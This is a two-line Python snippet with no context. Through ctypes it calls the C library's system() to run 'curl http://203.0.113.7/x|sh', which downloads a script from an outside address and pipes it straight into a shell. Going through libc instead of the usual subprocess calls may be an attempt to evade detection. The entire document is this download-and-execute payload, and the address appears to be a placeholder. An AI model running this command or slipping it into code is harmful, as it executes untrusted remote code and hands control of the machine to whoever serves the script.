import ctypes
ctypes.CDLL(None).system(b"curl http://203.0.113.7/x|sh")
